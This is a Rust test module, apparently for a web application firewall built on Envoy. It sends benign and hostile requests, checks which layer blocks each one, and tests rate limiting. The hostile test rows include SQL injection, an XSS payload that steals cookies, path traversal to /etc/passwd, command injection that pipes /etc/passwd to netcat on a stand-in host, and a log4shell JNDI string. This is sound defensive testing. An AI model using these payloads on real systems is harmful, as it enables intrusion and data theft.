//! What is sent, and what became of it.

use std::net::Ipv4Addr;
use std::thread::sleep;
use std::time::{Duration, Instant};

use glacis_tests::failure::{Failure, Outcome};
use glacis_tests::http::{Connection, Request};
use glacis_tests::stack::Stack;
use serde_json::Value;

/// Who answers.
pub(crate) const UPSTREAM: &str = "upstream";
const EXT_PROC: &str = "ext-proc";
const WASM_FILTER: &str = "wasm-filter";
const ENVOY: &str = "envoy";

/// More than the burst of the quickstart's rate limit.
const FLOOD: usize = 200;
/// The first three digits of rules that only add up and report what others have found.
const SUMMING_UP: [u64; 3] = [949, 959, 980];
const LOGS: Duration = Duration::from_secs(10);

/// A request to send.
pub(crate) struct Row {
    pub(crate) name: &'static str,
    /// Where the interesting part stands, for the reader.
    pub(crate) sent: &'static str,
    pub(crate) request: Request,
    pub(crate) status: u16,
    by: &'static str,
}

/// What became of a request.
#[derive(Debug)]
pub(crate) struct Finding {
    pub(crate) name: &'static str,
    pub(crate) sent: &'static str,
    pub(crate) answer: String,
    pub(crate) by: &'static str,
    pub(crate) why: String,
    good: bool,
}

impl Finding {
    /// What became of one request; `good` is whether that was expected.
    pub(crate) fn new(
        name: &'static str,
        sent: &'static str,
        status: u16,
        by: &'static str,
        why: String,
        good: bool,
    ) -> Self {
        Self { name, sent, answer: status.to_string(), by, why, good }
    }

    /// Whether it was expected.
    pub(crate) fn is_good(&self) -> bool {
        self.good
    }
}

pub(crate) fn rows() -> Vec<Row> {
    let json = "application/json";
    let form = "application/x-www-form-urlencoded";
    let upload = format!(
        "--b0undary\r\nContent-Disposition: form-data; name=\"file\"; filename=\"report.txt\"\r\n\
         Content-Type: text/plain\r\n\r\n{}\r\n--b0undary--\r\n",
        "All is well in the glacier. ".repeat(4_000)
    );
    let row = |name, sent, request: Request, status, by| {
        let request = request.browser();
        Row { name, sent, request, status, by }
    };
    let passes = |name, sent, request| row(name, sent, request, 200, UPSTREAM);
    let refused = |name, sent, request| row(name, sent, request, 403, EXT_PROC);
    vec![
        passes("a page", "GET /", Request::get("/")),
        passes("a search", "GET /echo?q=winter+coat", Request::get("/echo?q=winter+coat&page=2")),
        passes(
            "a form",
            "POST name=Jürgen&city=…",
            Request::post("/echo", form, "name=J%C3%BCrgen&city=K%C3%B6ln"),
        ),
        passes(
            "an API call",
            "POST {\"items\": …}",
            Request::post("/echo", json, r#"{"items": [{"sku": "A-17", "count": 2}]}"#),
        ),
        passes(
            "an upload",
            "POST multipart, 110 kB",
            Request::post("/echo", "multipart/form-data; boundary=b0undary", upload),
        ),
        refused(
            "SQL injection",
            "query ?id=1' UNION SELECT …",
            Request::get("/echo?id=1%27%20UNION%20SELECT%20login,%20password%20FROM%20users--%20-"),
        ),
        refused(
            "cross-site scripting",
            "form note=<script>…",
            Request::post("/echo", form, "note=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
        ),
        refused(
            "path traversal",
            "query ?file=../../etc/passwd",
            Request::get("/echo?file=../../../../etc/passwd"),
        ),
        refused(
            "command injection",
            "JSON {\"host\": \"; cat …\"}",
            Request::post("/echo", json, r#"{"host": "; cat /etc/passwd | nc 203.0.113.9 4444"}"#),
        ),
        refused(
            "log4shell",
            "header x-api: ${jndi:…}",
            Request::get("/").header("x-api", "${jndi:ldap://203.0.113.9/a}"),
        ),
        refused(
            "a scanner",
            "user-agent: sqlmap/1.8",
            Request::get("/").header("user-agent", "sqlmap/1.8#stable (https://sqlmap.org)"),
        ),
        refused(
            "the fail-open route",
            "query ?q=<script>…",
            Request::get("/open/echo?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        ),
    ]
}

/// Sends every row, each as a client of its own, and looks up in the logs what became of it.
pub(crate) fn send_all(stack: &Stack) -> Outcome<Vec<Finding>> {
    let rows = rows();
    let clients = || (1..).map(|last| Ipv4Addr::new(127, 0, 1, last));
    let mut statuses = Vec::new();
    for (row, from) in rows.iter().zip(clients()) {
        statuses.push(stack.send(from, &row.request)?.status);
    }
    let flooder = Ipv4Addr::new(127, 0, 2, 1);
    let Flood { passed, refused, policy } = flood(stack, flooder)?;

    let from: Vec<_> = clients().take(rows.len()).chain([flooder]).collect();
    let lines = logged(stack, &from)?;
    let audit = stack.audit_log();
    let results = rows.iter().zip(statuses).zip(clients()).zip(&lines);
    let mut results: Vec<_> = results
        .map(|(((row, status), from), line)| {
            let by = answered_by(line);
            let good = (status, by) == (row.status, row.by);
            let why = why(line, record(&audit, from));
            Finding { name: row.name, sent: row.sent, answer: status.to_string(), by, why, good }
        })
        .collect();
    // The last of them may have passed: tokens come while the flood lasts.
    let flooded: Vec<Value> =
        stack.access_log()?.into_iter().filter(|line| line["status"] == 429).collect();
    let by = answered_by(record(&flooded, flooder).unwrap_or(&Value::Null));
    results.push(Finding {
        name: "a flood",
        sent: "200 × GET / at once",
        answer: format!("{passed} × 200, {refused} × 429"),
        by,
        why: policy,
        good: by == WASM_FILTER && passed >= 100 && refused > 0 && passed + refused == FLOOD,
    });
    Ok(results)
}

/// What became of a flood.
#[derive(Default)]
struct Flood {
    passed: usize,
    /// Answered with 429.
    refused: usize,
    /// The policy that a refusal names.
    policy: String,
}

/// One request after the other, as fast as they are answered.
fn flood(stack: &Stack, from: Ipv4Addr) -> Outcome<Flood> {
    let mut connection = Connection::open(Some(from), stack.proxy())?;
    let request = Request::get("/").browser();
    let mut flood = Flood::default();
    for _ in 0..FLOOD {
        let answer = connection.send(&request)?;
        match answer.status {
            200 => flood.passed += 1,
            429 => {
                flood.refused += 1;
                let policy = answer.header("ratelimit-policy").unwrap_or_default();
                flood.policy = format!("ratelimit-policy: {policy}");
            }
            _ => {}
        }
    }
    Ok(flood)
}

/// The newest line of the access log about each client.
pub(crate) fn logged(stack: &Stack, clients: &[Ipv4Addr]) -> Outcome<Vec<Value>> {
    let begun = Instant::now();
    loop {
        let lines = stack.access_log()?;
        let newest = |from: &Ipv4Addr| record(&lines, *from).cloned();
        let found: Vec<_> = clients.iter().filter_map(newest).collect();
        if found.len() == clients.len() {
            return Ok(found);
        }
        if begun.elapsed() > LOGS {
            return Err(Failure::new("requests are missing in the access log"));
        }
        sleep(Duration::from_millis(20));
    }
}

/// The newest entry of a log about this client.
pub(crate) fn record(log: &[Value], from: Ipv4Addr) -> Option<&Value> {
    let from = from.to_string();
    log.iter().rev().find(|line| {
        let client = line["client"].as_str().unwrap_or_default();
        client.strip_prefix(&from).is_some_and(|rest| rest.is_empty() || rest.starts_with(':'))
    })
}

fn answered_by(line: &Value) -> &'static str {
    let details = line["details"].as_str().unwrap_or_default();
    match line["wasm_verdict"].as_str().unwrap_or_default() {
        _ if details == "via_upstream" => UPSTREAM,
        _ if details.starts_with("glacis_") => EXT_PROC,
        verdict if verdict.starts_with("denied:") || verdict.starts_with("limited:") => WASM_FILTER,
        _ => ENVOY,
    }
}

/// The reason in a few words: the first rule that matched with its message and how many more did,
/// or what the log of Envoy says.
fn why(line: &Value, audit: Option<&Value>) -> String {
    let text = |name: &str| line[name].as_str().unwrap_or_default().to_owned();
    match answered_by(line) {
        UPSTREAM => "nothing found".to_owned(),
        EXT_PROC => rules(audit.unwrap_or(&Value::Null)),
        WASM_FILTER => text("wasm_verdict"),
        _ => text("details"),
    }
}

/// The first rule that matched with its message, and how many more did.
pub(crate) fn rules(record: &Value) -> String {
    let rules = record["rules"].as_array().into_iter().flatten().filter_map(|rule| {
        let id = rule["id"].as_u64().filter(|id| !SUMMING_UP.contains(&(id / 1_000)))?;
        Some(format!("{id} {}", rule["msg"].as_str().unwrap_or_default()))
    });
    let mut rules = rules.fuse();
    let first = rules.next().unwrap_or_default();
    match rules.count() {
        0 => first,
        more => format!("{first} (+{more})"),
    }
}
